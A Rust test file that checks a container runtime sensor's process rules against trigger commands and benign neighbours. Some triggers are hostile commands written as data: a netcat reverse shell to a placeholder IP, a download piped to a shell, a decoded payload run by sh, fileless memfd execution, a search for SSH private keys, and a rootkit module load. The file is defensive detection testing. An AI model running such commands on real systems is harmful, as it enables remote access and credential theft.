//! The default rules on processes: shells, tools, downloads, payloads, names.
//! Each rule's trigger runs in a runc container and must give its finding; its
//! benign neighbour, in another, must not (see `sensor_tests::findings`).

use sensor_tests::{
    can_load_ebpf,
    findings::{Act, Case, Expect, Sensor, check, is},
};
use serde_json::json;

/// A file with an ELF that is not where its name belongs: busybox, copied.
const COPY: &str = "cp /bin/busybox";

/// execveat(2) of busybox from a memfd, as `true`.
fn memfd_exec() {
    // SAFETY: raw system calls on static strings and stack buffers; the child
    // exits right after.
    unsafe {
        let memfd = libc::memfd_create(c"payload".as_ptr(), 0);
        let src = libc::open(c"/bin/busybox".as_ptr(), libc::O_RDONLY);
        let mut st: libc::stat = std::mem::zeroed();
        libc::fstat(src, &mut st);
        libc::sendfile(memfd, src, std::ptr::null_mut(), st.st_size as usize);
        let argv = [c"true".as_ptr(), std::ptr::null()];
        let envp = [std::ptr::null::<libc::c_char>()];
        libc::syscall(
            libc::SYS_execveat,
            memfd,
            c"".as_ptr(),
            argv.as_ptr(),
            envp.as_ptr(),
            libc::AT_EMPTY_PATH,
        );
    }
}

/// execve(2) of busybox from its file, as `true`.
fn file_exec() {
    // SAFETY: as above.
    unsafe {
        let argv = [c"true".as_ptr(), std::ptr::null()];
        let envp = [std::ptr::null::<libc::c_char>()];
        libc::execve(c"/bin/busybox".as_ptr(), argv.as_ptr(), envp.as_ptr());
    }
}

fn cases() -> Vec<Case> {
    vec![
        Case::new(
            "Terminal shell in container",
            "Notice",
            ("proc.name", is("sh")),
            Act::terminal("exit 0"),
            Act::sh("exit 0"),
        ),
        Case::new(
            "Netcat with a program to run",
            "Critical",
            ("proc.cmdline", Expect::Has("-e /bin/sh")),
            Act::sh("/bin/nc -e /bin/sh 10.1.2.3 4000; true"),
            Act::sh("/bin/nc 10.1.2.3 4000; true"),
        ),
        Case::new(
            "Network tool run in container",
            "Notice",
            ("proc.name", is("nc")),
            Act::sh("/bin/nc 10.1.2.3 80; true"),
            Act::sh("ls /; true"),
        ),
        Case::new(
            "Network scanner run in container",
            "Warning",
            ("proc.name", is("nmap")),
            Act::sh("nmap -p 1-1024 10.1.2.3").tool("/usr/bin/nmap", "exit 0"),
            Act::sh("ping -c 1 -W 1 127.0.0.1; true"),
        ),
        Case::new(
            "Download piped to shell",
            "Critical",
            ("proc.cmdline", Expect::Has("wget -q -O- http://10.1.2.3/x")),
            Act::sh("/bin/wget -q -O- http://10.1.2.3/x | /bin/sh; true"),
            Act::sh("/bin/wget -q -O /tmp/x http://10.1.2.3/x; cat /tmp/x; true"),
        ),
        Case::new(
            "Decoded payload piped to shell",
            "Critical",
            ("proc.cmdline", Expect::Has("base64 -d")),
            Act::sh("echo ZXhpdCAw | base64 -d | /bin/sh"),
            Act::sh("echo aGVsbG8K | base64 -d"),
        ),
        Case::new(
            "Shell spawned by web server",
            "Error",
            ("proc.pname", is("nginx")),
            Act::sh("nginx").tool("/usr/sbin/nginx", "/bin/sh -c 'exit 0'\nexit 0"),
            Act::sh("nginx").tool("/usr/sbin/nginx", "/bin/ls /\nexit 0"),
        ),
        Case::new(
            "Package manager run in container",
            "Error",
            ("proc.name", is("apt-get")),
            Act::sh("apt-get install -y nmap").tool("/usr/bin/apt-get", "exit 0"),
            Act::sh("ls /usr/bin"),
        ),
        Case::new(
            "Execution from temporary directory",
            "Warning",
            ("proc.exepath", is("/tmp/bb")),
            Act::sh(format!("{COPY} /tmp/bb; /tmp/bb true")),
            Act::sh(format!("{COPY} /tmp/bb; /bin/true")),
        ),
        Case::new(
            "Fileless execution",
            "Critical",
            ("proc.is_exe_from_memfd", Expect::Is(json!(true))),
            Act::syscalls(memfd_exec),
            Act::syscalls(file_exec),
        ),
        Case::new(
            "Crypto miner run in container",
            "Critical",
            (
                "proc.cmdline",
                Expect::Has("stratum+tcp://pool.example:3333"),
            ),
            Act::sh("/bin/echo -o stratum+tcp://pool.example:3333 -u wallet"),
            Act::sh("/bin/echo -o https://pool.example -u wallet"),
        ),
        Case::new(
            "Process posing as a kernel thread",
            "Critical",
            ("proc.name", is("kworker")),
            Act::sh(format!(
                "mkdir -p /opt/k; {COPY} /opt/k/kworker; /opt/k/kworker; true"
            )),
            Act::sh(format!(
                "mkdir -p /opt/k; {COPY} /opt/k/worker; /opt/k/worker; true"
            )),
        ),
        Case::new(
            "Daemon name run from unexpected place",
            "Warning",
            ("proc.exepath", is("/var/tmp/sshd")),
            Act::sh(format!(
                "mkdir -p /var/tmp; {COPY} /var/tmp/sshd; /var/tmp/sshd; true"
            )),
            Act::sh(format!(
                "mkdir -p /usr/sbin; {COPY} /usr/sbin/sshd; /usr/sbin/sshd; true"
            )),
        ),
        Case::new(
            "Kernel module tool run in container",
            "Error",
            ("proc.name", is("insmod")),
            Act::sh("/bin/insmod /tmp/rootkit.ko; true"),
            Act::sh("lsmod; true"),
        ),
        Case::new(
            "Namespace tool run in container",
            "Warning",
            ("proc.name", is("nsenter")),
            Act::sh("/bin/nsenter -t 1 -m true; true"),
            Act::sh("hostname; true"),
        ),
        Case::new(
            "User management tool run in container",
            "Warning",
            ("proc.name", is("adduser")),
            Act::sh("adduser -D eve").tool("/usr/sbin/adduser", "exit 0"),
            Act::sh("id eve; true"),
        ),
        Case::new(
            "Crontab edited in container",
            "Warning",
            ("proc.cmdline", Expect::Has("crontab /tmp/jobs")),
            Act::sh(
                "echo '* * * * * true' > /tmp/jobs; mkdir -p /var/spool/cron/crontabs; \
                 /bin/crontab /tmp/jobs; true",
            ),
            Act::sh("/bin/crontab -l; true"),
        ),
        Case::new(
            "Credential search in container",
            "Warning",
            ("proc.cmdline", Expect::Has("id_rsa")),
            Act::sh("/bin/find /root /home -name id_rsa; true"),
            Act::sh("/bin/find /tmp -name '*.log'; true"),
        ),
        Case::new(
            "Drifted binary run in container",
            "Error",
            ("proc.exepath", is("/opt/tool")),
            Act::sh(format!("mkdir -p /opt; {COPY} /opt/tool; /opt/tool true")),
            Act::sh("/bin/true"),
        ),
    ]
}

#[test]
fn process_rules_fire_on_their_triggers_and_not_their_neighbours() {
    if !can_load_ebpf("rules_process") {
        return;
    }
    let sensor = Sensor::start(&[]);
    check(&sensor, &cases());
}
